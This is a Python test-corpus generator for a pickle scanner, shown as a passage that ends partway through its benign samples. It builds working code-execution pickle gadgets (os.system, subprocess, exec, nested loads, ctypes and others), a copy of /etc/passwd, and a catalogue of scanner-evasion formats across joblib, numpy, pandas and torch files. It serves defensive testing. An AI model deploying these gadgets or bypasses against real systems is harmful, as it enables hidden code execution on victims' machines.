"""The pickle gate's corpus, generated (no binary blob is committed): malicious files covering the published
gadget families and every loading path, and benign files pickled from real fitted objects.

Malicious payloads only ever write into their own marker folder (``touch <marker>/hit`` or Python that
creates that file): the tests prove each one malicious by loading it in a throw-away subprocess with the
loader that would be used (``pickle``, ``joblib``, ``pandas``, ``numpy``) and checking the folder. The
gadget families follow the public record: the CVE proofs of concept and bypasses in picklescan's,
modelscan's and fickling's advisories (``posixpath``/``tempfile`` attribute paths to ``os.system``,
``pydoc.pipepager``, ``logging.config`` ``'()'`` factories, ``imaplib.IMAP4_stream``, ``timeit``/
``cProfile``/``bdb``/``trace`` runners, ``code.InteractiveInterpreter``, ``ctypes``, ``runpy._run_code``,
``test.support.script_helper``, numpy's ``runstring``, nested ``pickle.loads``, ``operator``/``functools``
wrappers, computed ``STACK_GLOBAL`` names), the framework gadgets of issue 13 (scikit-learn's script
runner, ``pandas.to_pickle``, numpy's and SciPy's savers) and the loading paths of "The Art of Hide and
Seek" (no PROTO header, FRAME or SHORT_BINUNICODE first, data after a failing opcode, over-long lines,
compressed and archived pickles, joblib's interleaved arrays, numpy object arrays, torch zip members
including duplicate ``data.pkl`` names, torch's legacy stream and tar formats, pickles inside pickles).

PyTorch is not installed (its wheel pulls gigabytes of CUDA libraries): torch files are written by a
faithful writer of the format (``torch.save``'s zip layout: ``<name>/data.pkl``, ``data/<key>``,
``version``, ``byteorder``; the legacy stream of magic, protocol, sys info, object and storage keys; the
legacy tar of ``sys_info``, ``pickle``, ``storages``, ``tensors``), and proven by a loader that reads
them the way ``torch.load`` does (every ``data.pkl`` member, the five streams in order).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import re
import shlex
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

TORCH_MAGIC = 0x1950A86A20F9469CFC6C


@dataclass
class Sample:
    name: str
    path: Path
    loader: str  # pickle | joblib | pandas | numpy | torch-zip | torch-legacy | torch-tar
    family: str
    marker: Path | None = None  # malicious: the folder its payload writes into
    library: str = ""  # benign: the library the object comes from


# ------------------------------------------------------------------------------------- the assembler
@dataclass(frozen=True)
class G:
    """A global, spelled exactly as the pickle will import it."""

    module: str
    name: str


@dataclass(frozen=True)
class C:
    """A call: REDUCE (``op="R"``), INST (``"i"``) or OBJ (``"o"``) of ``func`` with ``args``."""

    func: Any
    args: tuple[Any, ...]
    op: str = "R"


@dataclass(frozen=True)
class SG:
    """A STACK_GLOBAL whose module and name are values (e.g. computed by calls)."""

    module: Any
    name: Any


def _uni(text: str, protocol: int) -> bytes:
    data = text.encode("utf-8", "surrogatepass")
    if protocol >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    if protocol >= 1:
        return b"X" + struct.pack("<I", len(data)) + data
    return (
        b"V" + text.encode("raw-unicode-escape").replace(b"\\", b"\\u005c").replace(b"\n", b"\\u000a") + b"\n"
    )


def emit(node: Any, protocol: int) -> bytes:
    """Opcodes that push ``node`` (protocol 0-5, as CPython's pickler would spell it)."""
    if isinstance(node, G):
        if protocol >= 4:
            return _uni(node.module, protocol) + _uni(node.name, protocol) + b"\x93"
        return b"c" + node.module.encode() + b"\n" + node.name.encode() + b"\n"
    if isinstance(node, SG):
        return emit(node.module, protocol) + emit(node.name, protocol) + b"\x93"
    if isinstance(node, C):
        args = b"".join(emit(a, protocol) for a in node.args)
        if node.op == "i":
            assert isinstance(node.func, G)
            return b"(" + args + b"i" + node.func.module.encode() + b"\n" + node.func.name.encode() + b"\n"
        if node.op == "o":
            return b"(" + emit(node.func, protocol) + args + b"o"
        return emit(node.func, protocol) + b"(" + args + b"tR"
    if node is None:
        return b"N"
    if isinstance(node, bool):
        return (b"\x88" if node else b"\x89") if protocol >= 2 else (b"I01\n" if node else b"I00\n")
    if isinstance(node, int):
        if protocol >= 1 and -(2**31) <= node < 2**31:
            return b"J" + struct.pack("<i", node)
        return b"I" + str(node).encode() + b"\n"
    if isinstance(node, float):
        return b"G" + struct.pack(">d", node) if protocol >= 1 else b"F" + repr(node).encode() + b"\n"
    if isinstance(node, str):
        return _uni(node, protocol)
    if isinstance(node, bytes):
        if protocol >= 3:
            return (
                b"B" + struct.pack("<I", len(node)) + node
                if len(node) > 255
                else b"C" + bytes([len(node)]) + node
            )
        return emit(C(G("_codecs", "encode"), (node.decode("latin-1"), "latin1")), protocol)
    if isinstance(node, tuple):
        return b"(" + b"".join(emit(x, protocol) for x in node) + b"t"
    if isinstance(node, list):
        return b"(" + b"".join(emit(x, protocol) for x in node) + b"l"
    if isinstance(node, dict):
        return b"(" + b"".join(emit(k, protocol) + emit(v, protocol) for k, v in node.items()) + b"d"
    raise TypeError(f"cannot emit {node!r}")


def assemble(node: Any, protocol: int, *, header: bool = True) -> bytes:
    head = b"\x80" + bytes([protocol]) if header and protocol >= 2 else b""
    return head + emit(node, protocol) + b"."


class Reduce:
    """An object whose pickle (by CPython's own pickler) calls ``func(*args)`` when loaded."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


# ----------------------------------------------------------------------------------------- gadgets
def gadgets(m: Path, side: Path) -> dict[str, tuple[Any, bool, tuple[int, ...]]]:
    """family -> (payload node, executes code?, protocols it is written in). ``m``: the marker folder;
    ``side``: a malicious side file that nested-loader gadgets load."""
    hit = str(m / "hit")
    sh = f"touch {shlex.quote(hit)}"
    py = f"open({hit!r}, 'w').close()"
    imp = C(G("builtins", "__import__"), ("os",))
    all_p = (0, 1, 2, 3, 4, 5)
    two = (2, 4)
    four = (4, 5)
    code = marshal.dumps(compile(py, "<payload>", "exec"))
    inner = assemble(C(G("os", "system"), (sh,)), 4)
    return {
        "os.system": (C(G("os", "system"), (sh,)), True, all_p),
        "posix.system": (C(G("posix", "system"), (sh,)), True, all_p),
        "os.popen": (C(G("os", "popen"), (sh,)), True, two),
        "os.spawnlp": (C(G("os", "spawnlp"), (0, "touch", "touch", hit)), True, two),
        "os.mkdir": (C(G("os", "mkdir"), (hit,)), False, two),
        "subprocess.call": (C(G("subprocess", "call"), (["touch", hit],)), True, two),
        "subprocess.run": (C(G("subprocess", "run"), (["touch", hit],)), True, two),
        "subprocess.check_call": (C(G("subprocess", "check_call"), (["touch", hit],)), True, two),
        "subprocess.check_output": (C(G("subprocess", "check_output"), (["touch", hit],)), True, two),
        "subprocess.getoutput": (C(G("subprocess", "getoutput"), (sh,)), True, two),
        "subprocess.getstatusoutput": (C(G("subprocess", "getstatusoutput"), (sh,)), True, two),
        "subprocess.Popen": (C(G("subprocess", "Popen"), (["touch", hit],)), True, all_p),
        "builtins.exec": (C(G("builtins", "exec"), (py,)), True, all_p),
        "builtins.eval": (C(G("builtins", "eval"), (py,)), True, all_p),
        "eval-import-system": (C(G("builtins", "eval"), (f"__import__('os').system({sh!r})",)), True, two),
        "compile-exec": (
            C(G("builtins", "exec"), (C(G("builtins", "compile"), (py, "<p>", "exec")),)),
            True,
            two,
        ),
        "builtins.open": (C(G("builtins", "open"), (hit, "w")), False, all_p),
        "io.open": (C(G("io", "open"), (hit, "w")), False, two),
        "_io.FileIO": (C(G("_io", "FileIO"), (hit, "w")), False, two),
        "codecs.open": (C(G("codecs", "open"), (hit, "w")), False, two),
        "pathlib-methodcaller": (
            C(C(G("operator", "methodcaller"), ("touch",)), (C(G("pathlib", "Path"), (hit,)),)),
            False,
            two,
        ),
        "pathlib.Path.write_text": (
            C(G("pathlib", "Path.write_text"), (C(G("pathlib", "Path"), (hit,)), "x")),
            False,
            four,
        ),
        "shutil.copyfile": (C(G("shutil", "copyfile"), ("/etc/passwd", hit)), False, two),
        "tempfile._os.system": (C(G("tempfile", "_os.system"), (sh,)), True, four),
        "posixpath.os.system": (C(G("posixpath", "os.system"), (sh,)), True, four),
        "shutil.os.system": (C(G("shutil", "os.system"), (sh,)), True, four),
        "os.path-module.os.system": (C(G("os.path", "os.system"), (sh,)), True, four),
        "numpy-runstring": (C(G("numpy.testing._private.utils", "runstring"), (py, {})), True, two),
        "sklearn-script-runner": (
            C(G("sklearn.utils._testing", "assert_run_python_script_without_output"), (py,)),
            True,
            two,
        ),
        "pandas.to_pickle": (C(G("pandas", "to_pickle"), (1, hit)), False, all_p),
        "pandas.io.pickle.to_pickle": (C(G("pandas.io.pickle", "to_pickle"), (1, hit)), False, two),
        "numpy.save": (C(G("numpy", "save"), (hit, [1, 2])), False, two),
        "numpy.savetxt": (C(G("numpy", "savetxt"), (hit, [1, 2])), False, two),
        "scipy.io.savemat": (C(G("scipy.io", "savemat"), (hit, {})), False, two),
        "joblib.dump": (C(G("joblib", "dump"), (1, hit)), False, two),
        "sklearn.datasets.dump_svmlight_file": (
            C(G("sklearn.datasets", "dump_svmlight_file"), ([[1.0]], [1], hit)),
            False,
            two,
        ),
        "pandas-methodcaller-to_csv": (
            C(
                C(G("operator", "methodcaller"), ("to_csv", hit)),
                (C(G("pandas", "DataFrame"), ({"a": [1]},)),),
            ),
            False,
            two,
        ),
        "getattr-import": (C(C(G("builtins", "getattr"), (imp, "system")), (sh,)), True, all_p),
        "importlib.import_module": (
            C(C(G("builtins", "getattr"), (C(G("importlib", "import_module"), ("os",)), "system")), (sh,)),
            True,
            two,
        ),
        "operator.attrgetter": (C(C(C(G("operator", "attrgetter"), ("system",)), (imp,)), (sh,)), True, two),
        "operator.methodcaller": (C(C(G("operator", "methodcaller"), ("system", sh)), (imp,)), True, all_p),
        "_operator.methodcaller": (C(C(G("_operator", "methodcaller"), ("system", sh)), (imp,)), True, two),
        "functools.partial": (C(C(G("functools", "partial"), (G("os", "system"), sh)), ()), True, all_p),
        "map-list": (
            C(G("builtins", "list"), (C(G("builtins", "map"), (G("os", "system"), [sh])),)),
            True,
            two,
        ),
        "itertools.starmap": (
            C(G("builtins", "list"), (C(G("itertools", "starmap"), (G("os", "system"), [(sh,)])),)),
            True,
            two,
        ),
        "code.InteractiveInterpreter": (
            C(
                C(G("operator", "methodcaller"), ("runsource", py)),
                (C(G("code", "InteractiveInterpreter"), ()),),
            ),
            True,
            two,
        ),
        "timeit.timeit": (C(G("timeit", "timeit"), (py, "pass", G("time", "perf_counter"), 1)), True, two),
        "cProfile.run": (C(G("cProfile", "run"), (py,)), True, two),
        "profile.run": (C(G("profile", "run"), (py,)), True, two),
        "runpy._run_code": (C(G("runpy", "_run_code"), (py, {})), True, two),
        "bdb.Bdb.run": (
            C(C(G("operator", "methodcaller"), ("run", py)), (C(G("bdb", "Bdb"), ()),)),
            True,
            two,
        ),
        "trace.Trace.run": (
            C(C(G("operator", "methodcaller"), ("run", py)), (C(G("trace", "Trace"), (0, 0)),)),
            True,
            two,
        ),
        "pydoc.pipepager": (C(G("pydoc", "pipepager"), ("x", sh)), True, all_p),
        "pydoc.tempfilepager": (C(G("pydoc", "tempfilepager"), ("x", sh)), True, two),
        "logging.config.dictConfig": (
            C(
                G("logging.config", "dictConfig"),
                ({"version": 1, "filters": {"f": {"()": "builtins.open", "file": hit, "mode": "w"}}},),
            ),
            True,
            all_p,
        ),
        "logging.FileHandler": (C(G("logging", "FileHandler"), (hit,)), False, two),
        "imaplib.IMAP4_stream": (C(G("imaplib", "IMAP4_stream"), (sh,)), True, two),
        "ctypes-libc-system": (
            C(C(G("operator", "methodcaller"), ("system", sh.encode())), (C(G("ctypes", "CDLL"), (None,)),)),
            True,
            two,
        ),
        "zipfile.ZipFile": (C(G("zipfile", "ZipFile"), (hit, "w")), False, two),
        "tarfile.open": (C(G("tarfile", "open"), (hit, "w")), False, two),
        "shelve.open": (C(G("shelve", "open"), (hit,)), False, two),
        "dbm.dumb.open": (C(G("dbm.dumb", "open"), (hit, "c")), False, two),
        "yaml.unsafe_load": (
            C(G("yaml", "unsafe_load"), (f'!!python/object/apply:os.system ["{sh}"]',)),
            True,
            two,
        ),
        "distutils.spawn": (C(G("distutils.spawn", "spawn"), (["touch", hit],)), True, two),
        "test.support.script_helper": (
            C(G("test.support.script_helper", "assert_python_ok"), ("-c", py)),
            True,
            (4,),
        ),
        "marshal-FunctionType": (
            C(C(G("types", "FunctionType"), (C(G("marshal", "loads"), (code,)), {})), ()),
            True,
            two,
        ),
        "pickle.loads-nested": (C(G("pickle", "loads"), (inner,)), True, all_p),
        "_pickle.loads-nested": (C(G("_pickle", "loads"), (inner,)), True, two),
        "pickle.load-side-file": (
            C(G("pickle", "load"), (C(G("builtins", "open"), (str(side), "rb")),)),
            True,
            two,
        ),
        "joblib.load-side-file": (C(G("joblib", "load"), (str(side),)), True, two),
        "pandas.read_pickle-side-file": (C(G("pandas", "read_pickle"), (str(side),)), True, two),
        "numpy.load-side-file": (C(G("numpy", "load"), (str(side), None, True)), True, two),
        "str-computed-module": (
            C(SG(C(G("builtins", "str"), (b"os", "ascii")), "system"), (sh,)),
            True,
            four,
        ),
        "inst-os.system": (C(G("os", "system"), (sh,), op="i"), True, (0, 1, 2)),
        "obj-os.system": (C(G("os", "system"), (sh,), op="o"), True, (1, 2, 4)),
        "inst-subprocess.Popen": (C(G("subprocess", "Popen"), (["touch", hit],), op="i"), True, (0, 2)),
    }


# ----------------------------------------------------------------------------------------- writers
def npy_object_bytes(payload: bytes, version: int = 1) -> bytes:
    """A ``.npy`` of a 1-element object array whose pickle is ``payload`` (``np.save`` writes the array's
    pickle right after the header)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    fmt = {1: "<H", 2: "<I", 3: "<I"}[version]
    width = 2 if version == 1 else 4
    prefix = 6 + 2 + width
    pad = -(prefix + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1" if version < 3 else "utf-8")
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack(fmt, len(text)) + text + payload


def torch_state_dict(extra: bytes = b"") -> bytes:
    """``torch.save(OrderedDict(weight=<4 floats>))``'s data.pkl (protocol 2); ``extra`` opcodes push a
    value stored under the key "extra"."""
    storage = b"(" + _uni("storage", 2) + emit(G("torch", "FloatStorage"), 2) + _uni("0", 2) + _uni("cpu", 2)
    storage += b"K\x04t"
    tensor = (
        emit(G("torch._utils", "_rebuild_tensor_v2"), 2) + b"(" + storage + b"QK\x00K\x04\x85K\x01\x85\x89"
    )
    tensor += emit(G("collections", "OrderedDict"), 2) + b")RtR"
    body = emit(G("collections", "OrderedDict"), 2) + b")R("
    if extra:
        body += _uni("extra", 2) + extra
    body += _uni("weight", 2) + tensor
    return b"\x80\x02" + body + b"u."


def write_torch_zip(
    path: Path, members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED
) -> Path:
    """torch.save's zip layout; ``members`` are the data.pkl members (several may share a name)."""
    import warnings

    prefix = members[0][0].rsplit("/", 1)[0]
    with zipfile.ZipFile(path, "w", compression) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate member names are the point
        for name, data in members:
            zf.writestr(name, data)
        zf.writestr(f"{prefix}/byteorder", "little")
        zf.writestr(f"{prefix}/data/0", struct.pack("<4f", 1, 2, 3, 4))
        zf.writestr(f"{prefix}/version", "3\n")
        zf.writestr(f"{prefix}/.data/serialization_id", "1234567890")
    return path


def torch_legacy_streams(main: bytes) -> list[bytes]:
    return [
        b"\x80\x02\x8a\x0a" + TORCH_MAGIC.to_bytes(10, "little") + b".",
        b"\x80\x02M\xe9\x03.",
        b"\x80\x02}(" + _uni("little_endian", 2) + b"\x88" + _uni("protocol_version", 2) + b"M\xe9\x03u.",
        main,
        b"\x80\x02](" + _uni("0", 2) + b"e.",
    ]


def write_torch_legacy(path: Path, streams: list[bytes]) -> Path:
    path.write_bytes(b"".join(streams) + struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4))
    return path


def write_torch_tar(path: Path, pickled: bytes) -> Path:
    """torch's oldest format: a tar of sys_info, pickle, storages and tensors."""
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": pickled,
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    with tarfile.open(path, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


# ------------------------------------------------------------------------------------ the malicious set
def malicious(root: Path) -> list[Sample]:
    """Every malicious file, each with its own marker folder under ``root / "markers"``."""
    files, markers = root / "malicious", root / "markers"
    files.mkdir(parents=True, exist_ok=True)
    markers.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def new(name: str, family: str, loader: str, suffix: str = ".pkl") -> tuple[Path, Path]:
        marker = markers / f"{len(samples):03d}"
        marker.mkdir()
        path = files / f"{len(samples):03d}-{name}{suffix}"
        samples.append(Sample(name, path, loader, family, marker))
        return path, marker

    def side_file(marker: Path) -> Path:
        side = marker.parent / f"{marker.name}-side.pkl"
        side.write_bytes(assemble(C(G("os", "system"), (f"touch {shlex.quote(str(marker / 'hit'))}",)), 4))
        return side

    # 1. Every gadget family, in the protocols it can be written in (assembled opcode by opcode).
    probe = gadgets(Path("/m"), Path("/s"))
    for family, (_, _, protocols) in probe.items():
        for protocol in protocols:
            path, marker = new(f"{family}-p{protocol}", family, "pickle")
            side = side_file(marker)
            node = gadgets(marker, side)[family][0]
            path.write_bytes(assemble(node, protocol))

    # 2. CPython's own pickler writing __reduce__ payloads.
    import os
    import subprocess

    for protocol in range(6):
        for label, make in (
            ("reduce-os.system", lambda hit: Reduce(os.system, f"touch {shlex.quote(hit)}")),
            ("reduce-Popen", lambda hit: Reduce(subprocess.Popen, ["touch", hit])),
            ("reduce-exec", lambda hit: Reduce(exec, f"open({hit!r}, 'w').close()")),
        ):
            path, marker = new(f"{label}-p{protocol}", label, "pickle")
            path.write_bytes(pickle.dumps(make(str(marker / "hit")), protocol=protocol))

    def payload(marker: Path, protocol: int = 4) -> bytes:
        return assemble(C(G("os", "system"), (f"touch {shlex.quote(str(marker / 'hit'))}",)), protocol)

    def payload_node(marker: Path) -> Any:
        return C(G("os", "system"), (f"touch {shlex.quote(str(marker / 'hit'))}",))

    # 3. Loading paths of the raw stream.
    path, marker = new("no-proto-frame-first", "no-header", "pickle")
    body = emit(payload_node(marker), 4) + b"."
    path.write_bytes(b"\x95" + struct.pack("<Q", len(body)) + body)
    path, marker = new("no-proto-short-unicode-first", "no-header", "pickle")
    path.write_bytes(emit(payload_node(marker), 4) + b".")
    path, marker = new("no-proto-protocol-2-opcodes", "no-header", "pickle")
    path.write_bytes(emit(payload_node(marker), 2) + b".")
    for protocol in (0, 2, 4):
        path, marker = new(f"junk-after-stop-p{protocol}", "trailing-data", "pickle")
        path.write_bytes(payload(marker, protocol) + b"\xff\xfe garbage \x00" * 50)
        path, marker = new(f"junk-after-reduce-p{protocol}", "failing-opcode", "pickle")
        path.write_bytes(payload(marker, protocol)[:-1] + b"\xff\xff\xff")
        path, marker = new(f"overlong-line-after-payload-p{protocol}", "overlong-line", "pickle")
        path.write_bytes(payload(marker, protocol)[:-1] + b"0S'" + b"A" * 200_000 + b"\n.")
    path, marker = new("overlong-int-line", "overlong-line", "pickle")
    path.write_bytes(payload(marker, 0)[:-1] + b"0I" + b"9" * 10_000 + b"\n.")
    for suffix in (".txt", ".csv", ".json", ""):
        path, marker = new("protocol-0-text", "disguised-extension", "pickle", suffix)
        path.write_bytes(payload(marker, 0))
    path, marker = new("unicode-memo-stack-global", "memo-indirection", "pickle")
    path.write_bytes(
        b"\x80\x04"
        + _uni("os", 4)
        + b"\x94"
        + _uni("system", 4)
        + b"\x94h\x00h\x01\x93"
        + _uni(f"touch {shlex.quote(str(marker / 'hit'))}", 4)
        + b"\x85R."
    )

    # 4. Compressed and archived pickles (joblib by content, pandas by suffix).
    codecs = {
        ".gz": gzip.compress,
        ".bz2": bz2.compress,
        ".xz": lzma.compress,
        ".lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
    }
    for suffix, compress in codecs.items():
        for protocol in (0, 4):
            loader = "joblib" if suffix == ".lzma" else "pandas"  # pandas infers no .lzma; joblib reads it
            path, marker = new(f"compressed-p{protocol}", f"compressed{suffix}", loader, f".pkl{suffix}")
            path.write_bytes(compress(payload(marker, protocol)))
    import zstandard

    for protocol in (4, 5):  # pandas reads zstd pickles through a stream it cannot peek: framed only
        path, marker = new(f"zstd-p{protocol}", "compressed.zst", "pandas", ".pkl.zst")
        path.write_bytes(zstandard.ZstdCompressor().compress(payload(marker, protocol)))
    path, marker = new("gzip-no-suffix", "compressed-by-content", "joblib", ".joblib")
    path.write_bytes(gzip.compress(payload(marker, 0)))
    path, marker = new("zlib-joblib", "compressed-by-content", "joblib", ".joblib")
    path.write_bytes(zlib.compress(payload(marker, 4)))
    path, marker = new("zip-member", "zip", "pandas", ".pkl.zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("model.pkl", payload(marker))
    for suffix, mode in ((".tar", "w"), (".tar.gz", "w:gz"), (".tar.bz2", "w:bz2"), (".tar.xz", "w:xz")):
        path, marker = new("tar-member", "tar", "pandas", f".pkl{suffix}")
        data = payload(marker)
        with tarfile.open(path, mode) as tar:
            info = tarfile.TarInfo("model.pkl")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path, marker = new("joblib-zfile", "joblib-zfile", "joblib", ".pkl")
    data = payload(marker, 2)
    path.write_bytes(b"ZF" + f"{len(data):#x}".ljust(19).encode() + zlib.compress(data))

    # 5. joblib: payloads after interleaved numpy arrays, inside object arrays, every compressor.
    import joblib
    import numpy as np

    for compress in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
        label = compress[0] if compress else "raw"
        path, marker = new(f"joblib-after-arrays-{label}", "joblib-interleaved", "joblib", ".joblib")
        hit = str(marker / "hit")
        joblib.dump(
            {
                "w": np.arange(2000.0),
                "b": np.ones((10, 10), np.float32),
                "z": Reduce(os.system, f"touch {shlex.quote(hit)}"),
            },
            path,
            compress=compress,
        )
    path, marker = new("joblib-object-array", "joblib-object-array", "joblib", ".joblib")
    hit = str(marker / "hit")
    joblib.dump(
        {
            "w": np.arange(100.0),
            "o": np.array([1, Reduce(os.system, f"touch {shlex.quote(hit)}")], dtype=object),
        },
        path,
    )
    path, marker = new("joblib-payload-in-array-bytes", "joblib-array-bytes", "pickle", ".joblib")
    # joblib without alignment padding (as older joblib wrote): the array bytes joblib.load skips are
    # opcodes to pickle.load, which meets them right after the wrapper's BUILD.
    body = emit(payload_node(marker), 2)
    joblib.dump({"a": np.frombuffer(body, dtype=np.uint8)}, path, protocol=2)
    raw = path.read_bytes()
    start = raw.index(body)
    cut = next(n for n in range(0, 65) if raw[start - n - 1] == n)
    raw = raw[: start - cut - 1] + raw[start:]
    raw = re.sub(rb"(numpy_array_alignment_bytes(?:q.|\x94)?)K\x10", rb"\1N", raw, count=1)
    path.write_bytes(raw)

    # 6. numpy object arrays.
    for version in (1, 2, 3):
        path, marker = new(f"npy-object-v{version}", "npy-object", "numpy", ".npy")
        path.write_bytes(npy_object_bytes(payload(marker, 3), version))
    path, marker = new("npz-object", "npz", "numpy", ".npz")
    np.savez(
        path,
        ok=np.arange(3),
        bad=np.array([Reduce(os.system, f"touch {shlex.quote(str(marker / 'hit'))}")], dtype=object),
    )
    path, marker = new("npz-second-member", "npz", "numpy", ".npz")
    with zipfile.ZipFile(path, "w") as zf:
        buf = io.BytesIO()
        np.save(buf, np.arange(4))
        zf.writestr("a.npy", buf.getvalue())
        zf.writestr("b.npy", npy_object_bytes(payload(marker, 4)))

    # 7. torch: zip (every member, duplicate names), legacy stream (payload in each of the five), tar.
    path, marker = new("torch-zip", "torch-zip", "torch-zip", ".pt")
    write_torch_zip(path, [("archive/data.pkl", torch_state_dict(emit(payload_node(marker), 2)))])
    path, marker = new("torch-zip-deflated", "torch-zip", "torch-zip", ".pt")
    write_torch_zip(
        path, [("model/data.pkl", torch_state_dict(emit(payload_node(marker), 2)))], zipfile.ZIP_DEFLATED
    )
    path, marker = new("torch-zip-duplicate-second", "torch-zip-duplicate", "torch-zip", ".pt")
    write_torch_zip(
        path, [("archive/data.pkl", torch_state_dict()), ("archive/data.pkl", payload(marker, 2))]
    )
    path, marker = new("torch-zip-duplicate-first", "torch-zip-duplicate", "torch-zip", ".pt")
    write_torch_zip(
        path, [("archive/data.pkl", payload(marker, 2)), ("archive/data.pkl", torch_state_dict())]
    )
    for position in range(5):
        path, marker = new(f"torch-legacy-stream-{position}", "torch-legacy", "torch-legacy", ".pth")
        streams = torch_legacy_streams(torch_state_dict())
        streams[position] = payload(marker, 2)
        write_torch_legacy(path, streams)
    path, marker = new("torch-tar", "torch-tar", "torch-tar", ".pt")
    write_torch_tar(path, payload(marker, 2))

    # 8. Pickles inside pickles.
    for protocol in (0, 2, 4):
        path, marker = new(f"nested-loads-p{protocol}", "nested", "pickle")
        path.write_bytes(assemble(C(G("pickle", "loads"), (payload(marker, protocol),)), 2))
    path, marker = new("nested-codecs-encode", "nested", "pickle")
    inner = payload(marker, 2).decode("latin-1")
    path.write_bytes(assemble(C(G("_pickle", "loads"), (C(G("_codecs", "encode"), (inner, "latin1")),)), 2))
    return samples


# -------------------------------------------------------------------------------------- the benign set
def _frames() -> Iterator[tuple[str, Any]]:
    import datetime
    import zoneinfo

    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(7)
    n = 12
    for zone in ("UTC", "Asia/Tokyo", "America/Sao_Paulo", "Australia/Sydney", "Europe/London"):
        yield (
            f"frame-tz-{zone}",
            pd.DataFrame(
                {
                    "t": pd.date_range("2023-03-01", periods=n, freq="h", tz=zoneinfo.ZoneInfo(zone)),
                    "v": rng.random(n),
                }
            ),
        )
    yield "frame-tz-string", pd.DataFrame({"t": pd.date_range("2023", periods=n, tz="US/Pacific")})
    yield (
        "frame-tz-offset",
        pd.Series(pd.date_range("2023", periods=n, tz=datetime.timezone(datetime.timedelta(hours=-5)))),
    )
    for ordered in (True, False):
        yield (
            f"frame-categorical-{ordered}",
            pd.DataFrame(
                {
                    "c": pd.Categorical(
                        rng.choice(["lo", "mid", "hi"], n), categories=["lo", "mid", "hi"], ordered=ordered
                    )
                }
            ),
        )
    yield "series-categorical-int", pd.Series(pd.Categorical(rng.integers(0, 3, n)))
    for freq in ("D", "W-SUN", "M", "Q-DEC", "Y"):
        yield f"frame-period-{freq}", pd.DataFrame({"p": pd.period_range("2020-01-01", periods=n, freq=freq)})
    for closed in ("left", "right", "both", "neither"):
        yield (
            f"frame-interval-{closed}",
            pd.DataFrame({"iv": pd.interval_range(0.0, float(n), closed=closed)}),
        )
    yield "frame-interval-datetime", pd.Series(pd.interval_range(pd.Timestamp("2023"), periods=n, freq="D"))
    yield (
        "frame-mixed",
        pd.DataFrame(
            {
                "i": rng.integers(0, 9, n),
                "f": rng.random(n),
                "s": rng.choice(list("xyz"), n),
                "b": rng.random(n) > 0.5,
                "d": pd.to_timedelta(rng.integers(0, 100, n), unit="m"),
                "n": pd.array(rng.integers(0, 5, n), dtype="Int32"),
            }
        ),
    )
    yield (
        "frame-multiindex-columns",
        pd.DataFrame(rng.random((3, 4)), columns=pd.MultiIndex.from_product([["a", "b"], [1, 2]])),
    )
    yield "frame-string-dtype", pd.DataFrame({"s": pd.array(["a", None, "c"], dtype="string")})
    yield "frame-sparse", pd.DataFrame({"sp": pd.arrays.SparseArray([0.0, 1.0, 0.0, 0.0])})
    yield "series-uint8", pd.Series(np.arange(n, dtype=np.uint8), name="u")
    yield (
        "frame-datetime-index",
        pd.DataFrame({"v": range(n)}, index=pd.date_range("2022", periods=n, freq="15min")),
    )
    yield (
        "frame-groupby-result",
        pd.DataFrame({"k": list("aabbcc"), "v": range(6)}).groupby("k").agg(["sum", "mean"]),
    )
    yield (
        "frame-pivot",
        pd.DataFrame({"a": list("xxyy"), "b": list("pqpq"), "v": range(4)}).pivot_table(
            index="a", columns="b", values="v"
        ),
    )


def _arrays() -> Iterator[tuple[str, Any]]:
    import numpy as np

    rng = np.random.default_rng(3)
    for dtype in ("f2", "f4", "f8", "i1", "i2", "i4", "i8", "u1", "u2", "u4", "u8", "c8", "c16", "?"):
        yield f"array-{dtype}", rng.random((5, 3)).astype(dtype)
    yield "array-fortran", np.asfortranarray(rng.random((4, 4)))
    yield "array-unicode", np.array(["alpha", "beta", "gamma"])
    yield "array-bytes", np.array([b"x", b"yz"])
    yield "array-datetime64-ns", np.array(["2024-02-29T12:00"], dtype="datetime64[ns]")
    yield "array-timedelta64", np.array([5, 6], dtype="timedelta64[ms]")
    yield "array-structured", np.zeros(3, dtype=[("id", "i8"), ("score", "f4"), ("tag", "U4")])
    yield "array-object-mixed", np.array([1, 2.5, "s", None, (1, 2)], dtype=object)
    yield "array-masked", np.ma.masked_invalid([1.0, np.nan, 3.0])
    yield "array-empty", np.empty((0, 3))
    yield "array-big", rng.random(200_000)
    yield "random-state", np.random.RandomState(11)
    yield "generator-pcg", np.random.Generator(np.random.PCG64(5))
    yield "generator-philox", np.random.Generator(np.random.Philox(5))


def _scipy() -> Iterator[tuple[str, Any]]:
    import numpy as np
    from scipy import interpolate, sparse, spatial

    rng = np.random.default_rng(5)
    dense = (rng.random((6, 5)) > 0.6) * rng.random((6, 5))
    for fmt in ("csr", "csc", "coo", "bsr", "dia", "lil", "dok"):
        yield f"sparse-matrix-{fmt}", sparse.csr_matrix(dense).asformat(fmt)
        yield f"sparse-array-{fmt}", sparse.coo_array(dense).asformat(fmt)
    yield "kdtree", spatial.KDTree(rng.random((20, 2)))
    yield "ckdtree", spatial.cKDTree(rng.random((20, 3)))
    yield "convex-hull-points", spatial.distance.pdist(rng.random((5, 2)))
